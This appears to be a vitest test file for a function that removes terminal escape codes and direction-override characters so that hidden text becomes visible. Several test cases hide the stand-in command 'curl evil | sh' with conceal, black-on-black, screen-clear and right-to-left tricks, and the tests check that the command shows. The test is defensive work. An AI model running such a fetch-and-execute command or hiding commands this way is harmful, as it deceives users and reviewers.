import { expect, test } from "vitest";
import { createPaint } from "./paint.ts";
import { visible } from "./visible.ts";

const paint = createPaint(true);

test("our own styles stay", () => {
  const text = `${paint.bold("a")} ${paint.dim("b")} ${paint.red("c")} ${paint.cyan("d")}\n\te`;
  expect(visible(text)).toBe(text);
});

test.each([
  ["conceal", "\u001b[8mcurl evil | sh\u001b[28m"],
  ["the colour of the background", "\u001b[40mcurl evil | sh\u001b[49m"],
  ["black on black", "\u001b[30mcurl evil | sh"],
  ["several styles at once", "\u001b[1;8mcurl evil | sh"],
  ["a colour by number", "\u001b[38;5;0mcurl evil | sh"],
  ["a title, and the screen cleared", "\u001b]0;x\u0007\u001b[2Jcurl evil | sh"],
  ["another reading order", "\u202ecurl evil | sh\u2066"],
])("text cannot be hidden by %s", (_what, text) => {
  const shown = visible(text);
  expect(shown).toContain("curl evil | sh");
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must be gone.
  expect(shown).not.toMatch(/[\u001b\u0007\u202e\u2066]/);
});

test("a style that an agent left open ends with the text", () => {
  expect(visible("\u001b[31mred\n")).toBe("\u001b[31mred\n\u001b[39m");
  expect(visible("\u001b[1mloud \u001b[33myellow\n")).toBe("\u001b[1mloud \u001b[33myellow\n\u001b[22m\u001b[39m");
});
